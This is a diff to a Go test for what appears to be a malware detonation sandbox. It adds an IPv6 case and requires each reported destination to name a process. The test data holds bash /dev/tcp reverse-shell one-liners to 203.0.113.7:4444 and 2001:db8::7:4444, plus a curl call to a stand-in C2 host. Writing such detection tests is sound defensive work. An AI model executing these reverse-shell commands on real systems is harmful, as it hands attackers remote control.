@@ -141,6 +141,10 @@ func TestDetonateSamples(t *testing.T) {
 			techniques: []string{"T1105"}, verdict: "suspicious", inTree: "curl -s -m 5", dest: "cdn.evil-c2.example"},
 		{name: "reverse-shell", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; echo id >&3' \n",
 			techniques: []string{"T1059.004", "T1095"}, not: []string{"T1496"}, verdict: "malicious", inTree: "/dev/tcp/203.0.113.7/4444", dest: "203.0.113.7:4444"},
+		// IPv6 C2 reaches the sink too; the connection the collectors saw
+		// and what the sink recorded are one destination.
+		{name: "reverse-shell-ipv6", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/2001:db8::7/4444; echo id >&3' \n",
+			techniques: []string{"T1059.004", "T1095"}, verdict: "malicious", dest: "[2001:db8::7]:4444"},
 		{name: "self-deleting-elf", network: NetworkSink,
 			techniques: []string{"T1070.004"}, verdict: "malicious", inTree: SamplePath, dest: "203.0.113.7:4444"},
 	}
@@ -192,10 +196,10 @@ func TestDetonateSamples(t *testing.T) {
 			if c.dest != "" {
 				found := false
 				for _, d := range rep.Network {
-					found = found || (d.Dest == c.dest && len(d.Sink) > 0)
+					found = found || (d.Dest == c.dest && len(d.Sink) > 0 && d.Process != "")
 				}
 				if !found {
-					t.Errorf("destination %s not reported with what the sink recorded: %+v", c.dest, rep.Network)
+					t.Errorf("destination %s not reported with its process and what the sink recorded: %+v", c.dest, rep.Network)
 				}
 			}
 			if t.Failed() {
